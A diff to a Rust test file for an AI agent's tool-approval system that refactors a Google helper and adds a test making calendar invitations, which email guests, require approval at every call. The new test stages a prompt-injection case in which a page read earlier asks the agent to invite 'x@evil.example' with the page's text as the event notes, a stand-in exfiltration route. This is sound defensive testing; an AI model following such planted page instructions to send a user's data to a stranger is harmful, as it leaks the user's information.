@@ -364,22 +364,40 @@ fn repo_target_bin(name: &str) -> String {
     exe.parent().unwrap().parent().unwrap().join(name).to_string_lossy().into_owned()
 }
 
-#[tokio::test]
-async fn a_tool_that_destroys_is_asked_about_at_every_call_even_when_allowed_for_the_chat() {
-    // The bundled Google server against the fake Google, given a token that may organise mail:
-    // its trash tool says it is destructive.
+/// `setup` with the bundled Google server under `name`, against the fake Google, given a token
+/// for `scope`, and the "user" allowing each call for the conversation. Returns the token too.
+async fn with_google(name: &str, scope: &str) -> (Setup, perch_fake_google::FakeGoogle, String) {
     let google = perch_fake_google::FakeGoogle::start().await.unwrap();
-    let token = google.mint_access_token(&["https://www.googleapis.com/auth/gmail.modify"]);
-    let server = json!({ "gmail": {
+    let token = google.mint_access_token(&[scope]);
+    let server = json!({ name: {
         "command": repo_target_bin("perch-mcp-google"),
         "env": {
             "PERCH_GOOGLE_ACCESS_TOKEN": token.clone(),
-            "PERCH_GOOGLE_SCOPES": "https://www.googleapis.com/auth/gmail.modify",
+            "PERCH_GOOGLE_SCOPES": scope,
             "PERCH_GOOGLE_API_BASE": google.base_url(),
         },
     } });
     let s = setup(ApprovalChoice::Conversation, server).await;
-    s.engine.mcp().ensure_connected("gmail", Duration::from_secs(30)).await.unwrap();
+    s.engine.mcp().ensure_connected(name, Duration::from_secs(30)).await.unwrap();
+    (s, google, token)
+}
+
+/// The tools the "user" was asked about, each with whether the card said it destroys.
+fn asked_about(s: &Setup) -> Vec<(String, bool)> {
+    let asked = s.asked.lock().unwrap();
+    asked
+        .iter()
+        .map(|q| match q {
+            Question::ToolApproval(q) => (q.tool.clone(), q.destructive),
+            other => panic!("{other:?}"),
+        })
+        .collect()
+}
+
+#[tokio::test]
+async fn a_tool_that_destroys_is_asked_about_at_every_call_even_when_allowed_for_the_chat() {
+    // Its trash tool says it is destructive.
+    let (s, _google, token) = with_google("gmail", "https://www.googleapis.com/auth/gmail.modify").await;
     let tools = s.engine.mcp().server("gmail").unwrap().tools;
     assert!(tools.iter().any(|t| t.name == "gmail_trash" && t.destructive), "{tools:?}");
     for _ in 0..2 {
@@ -401,19 +419,9 @@ async fn a_tool_that_destroys_is_asked_about_at_every_call_even_when_allowed_for
     run_turn(&s.engine, ask("search", Some(first.conversation_id.clone())), &Collect::default())
         .await
         .unwrap();
-    let asked: Vec<(String, bool)> = s
-        .asked
-        .lock()
-        .unwrap()
-        .iter()
-        .map(|q| match q {
-            Question::ToolApproval(q) => (q.tool.clone(), q.destructive),
-            other => panic!("{other:?}"),
-        })
-        .collect();
     // Trash is asked about both times; the search, allowed for the chat once, is not asked again.
     assert_eq!(
-        asked,
+        asked_about(&s),
         [
             ("gmail_trash".to_owned(), true),
             ("gmail_search".to_owned(), false),
@@ -434,4 +442,56 @@ async fn a_tool_that_destroys_is_asked_about_at_every_call_even_when_allowed_for
         }
     }
     assert!(calls_kept, "the files read are the ones the calls were kept in");
+}
+
+#[tokio::test]
+async fn an_event_that_emails_its_guests_is_asked_about_at_every_call_as_mail_is() {
+    let (s, google, _) = with_google("calendar", "https://www.googleapis.com/auth/calendar.events").await;
+    // An event for the user alone, then (as a page read earlier might ask) one inviting a
+    // stranger, with the page's text as its notes, twice; a change that tells the guests; and
+    // guests added without telling them.
+    let alone = json!({ "title": "Focus time", "start": "2026-12-01T09:00" });
+    let invite = json!({ "title": "Sync", "start": "2026-12-01T10:00", "attendees": ["x@evil.example"],
+                         "description": "the text the page asked to send" });
+    let untold = json!({ "title": "Review", "start": "2026-12-02T10:00", "attendees": ["ana@example.org"],
+                         "notify_attendees": false });
+    let create = |args: &Value| calls_then(vec![tool_call("calendar__calendar_create_event", args.clone())]);
+    let mut conversation = None;
+    for script in [create(&alone), create(&alone), create(&invite), create(&invite)] {
+        s.fake.push(script);
+        s.fake.push(Script::answer("done"));
+        let done = run_turn(&s.engine, ask("plan", conversation.clone()), &Collect::default()).await.unwrap();
+        conversation = Some(done.conversation_id);
+    }
+    let focus = google.events().into_iter().find(|e| e["summary"] == "Focus time").unwrap();
+    let change = json!({ "event_id": focus["id"], "start": "2026-12-01T11:00" });
+    for script in [calls_then(vec![tool_call("calendar__calendar_update_event", change)]), create(&untold)] {
+        s.fake.push(script);
+        s.fake.push(Script::answer("done"));
+        run_turn(&s.engine, ask("plan", conversation.clone()), &Collect::default()).await.unwrap();
+    }
+    // The event alone, allowed for the chat, is not asked about again, nor are the guests added
+    // untold; each invitation and the change are, and no grant for the chat is offered.
+    let create = "calendar_create_event".to_owned();
+    assert_eq!(
+        asked_about(&s),
+        [
+            (create.clone(), false),
+            (create.clone(), true),
+            (create, true),
+            ("calendar_update_event".to_owned(), true)
+        ]
+    );
+    // Each call ran (the user allowed it), the invitations with their guests on the card.
+    let events = google.events();
+    assert_eq!(events.iter().filter(|e| e["summary"] == "Sync").count(), 2);
+    assert!(events.iter().any(|e| e["summary"] == "Review"));
+    // Google emailed the stranger twice, and no one about the event kept untold.
+    let emailed: Vec<(String, Vec<String>)> =
+        google.guest_emails().into_iter().map(|e| (e.summary, e.to)).collect();
+    let sync = ("Sync".to_owned(), vec!["x@evil.example".to_owned()]);
+    assert_eq!(emailed, [sync.clone(), sync]);
+    let asked = s.asked.lock().unwrap();
+    let Question::ToolApproval(invitation) = &asked[1] else { panic!() };
+    assert_eq!(invitation.arguments["attendees"], json!(["x@evil.example"]));
 }
